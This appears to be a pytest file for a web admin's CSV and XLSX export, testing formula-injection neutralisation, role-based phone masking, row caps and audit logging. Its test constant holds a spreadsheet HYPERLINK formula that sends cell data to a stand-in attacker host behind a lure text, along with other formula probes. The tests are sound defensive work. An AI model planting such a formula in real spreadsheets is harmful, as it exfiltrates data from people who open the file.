"""Exports: formulas neutralised in CSV and XLSX, row cap, personal data by role, audited."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from example_plugin.models import ExampleNote
from openpyxl import load_workbook
from sqlalchemy import select
from support import login

from core.audit import AuditEntry
from core.exports import export_response, neutralise
from core.extensions import db
from core.models import Office
from core.modules import set_module

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")'


@pytest.fixture
def notes(app, offices):
    """Example module on for A and B; A has a formula-like title and a phone, B one note."""
    with app.app_context():
        for code in ("A", "B"):
            set_module("example", db.session.get(Office, offices[code]), True)
        db.session.add_all(
            [
                ExampleNote(office_id=offices["A"], title=EVIL, phone="13812345678"),
                ExampleNote(office_id=offices["A"], title="+86 开头", phone="13900000000"),
                ExampleNote(office_id=offices["A"], title="@SUM(1,2)"),
                ExampleNote(office_id=offices["B"], title="乙的笔记", phone="13711112222"),
            ]
        )
        db.session.commit()
    return offices


def csv_rows(response) -> list[list[str]]:
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.get_data())).active


# --- the cell rules themselves --------------------------------------------------------------


@pytest.mark.parametrize("value", [EVIL, "+1", "-1+2", "@cmd", "\t=1", "＝1+1"])
def test_formula_like_text_gets_an_apostrophe_in_csv(value):
    assert neutralise(value) == "'" + value


def test_plain_values_stay_as_they_are():
    aware = datetime(2026, 3, 1, 8, 30, tzinfo=UTC)
    assert neutralise(None) == ""
    assert neutralise(42) == 42 and neutralise(-3.5) == -3.5  # numbers are not text
    assert neutralise(date(2026, 1, 2)) == date(2026, 1, 2)
    assert neutralise(aware) == datetime(2026, 3, 1, 8, 30)
    assert neutralise("张三") == "张三"


def test_xlsx_strings_are_typed_text_never_formulas(app):
    with app.test_request_context():
        response = export_response("xlsx", "t", ["姓名", "=标题"], [[EVIL, 5], ["bell\x07", None]])
    sheet = xlsx_sheet(response)
    assert sheet["A1"].value == "姓名" and sheet["B1"].value == "=标题"
    assert sheet["A2"].value == EVIL and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 5
    assert sheet["A3"].value == "bell"  # control characters XML cannot carry are dropped
    xml = zipfile.ZipFile(io.BytesIO(response.get_data())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml


# --- through the admin export -------------------------------------------------------------


def test_csv_export_neutralises_formulas(app, client, users, notes, login_as):
    login_as("staff_a")
    response = client.get("/admin/example_notes/export/csv/")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    titles = [row[0] for row in csv_rows(response)[1:]]
    assert "'" + EVIL in titles and "'+86 开头" in titles and "'@SUM(1,2)" in titles
    assert "乙的笔记" not in titles  # scoped to the user's office


def test_xlsx_export_keeps_formulas_as_text(app, client, users, notes, login_as):
    login_as("staff_a")
    response = client.get("/admin/example_notes/export/xlsx/")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    sheet = xlsx_sheet(response)
    cells = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2)}
    assert EVIL in cells and cells[EVIL].data_type == "s"
    xml = zipfile.ZipFile(io.BytesIO(response.get_data())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml


def test_personal_data_columns_follow_the_role(app, client, users, notes, login_as):
    login_as("auditor")  # reads everything, but not private persons' phones
    for kind in ("csv", "xlsx"):
        response = client.get(f"/admin/example_notes/export/{kind}/")
        rows = (
            csv_rows(response)
            if kind == "csv"
            else [[c.value for c in r] for r in xlsx_sheet(response).iter_rows()]
        )
        header = [str(h) for h in rows[0]]
        assert not any("Phone" in h or "电话" in h for h in header), header
        flat = " ".join(str(v) for row in rows for v in row)
        assert "13812345678" not in flat and "138****5678" not in flat

    staff = app.test_client()
    login(staff, "staff_a")  # staff may see the phones of their own office's records
    rows = csv_rows(staff.get("/admin/example_notes/export/csv/"))
    assert len(rows[0]) == 3
    assert "13812345678" in [value for row in rows for value in row]  # full, not masked


def test_export_over_the_cap_becomes_a_background_job_with_its_own_cap(
    app, client, users, notes, login_as, monkeypatch
):
    monkeypatch.setitem(app.config, "EXPORT_MAX_ROWS", 2)
    monkeypatch.setitem(app.config, "BACKGROUND_EXPORT_MAX_ROWS", 2)
    login_as("staff_a")
    response = client.get("/admin/example_notes/export/csv/")
    assert response.status_code == 302 and "/admin/my-jobs/" in response.headers["Location"]
    rows = csv_rows(client.get(response.headers["Location"].rstrip("/") + "/download"))
    assert len(rows) == 1 + 2  # header + the background cap, although A has three notes


def test_export_is_audited(app, client, users, notes, login_as):
    login_as("auditor")
    client.get("/admin/example_notes/export/xlsx/")
    with app.app_context():
        entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "export"))
        assert entry is not None
        assert entry.actor_name == "auditor" and entry.target_type == "example_note"
        assert entry.details["format"] == "xlsx" and entry.details["rows"] == 4
        assert "phone" not in entry.details["columns"]


def test_unknown_export_type_is_404(client, users, notes, login_as):
    login_as("staff_a")
    assert client.get("/admin/example_notes/export/ods/").status_code == 404


def test_chinese_file_name_survives(app):
    with app.test_request_context():
        response = export_response("csv", "工作人员", ["a"], [["b"]])
    disposition = response.headers["Content-Disposition"]
    assert "filename*=UTF-8''%E5%B7%A5%E4%BD%9C%E4%BA%BA%E5%91%98.csv" in disposition
    assert response.headers["Cache-Control"] == "no-store"
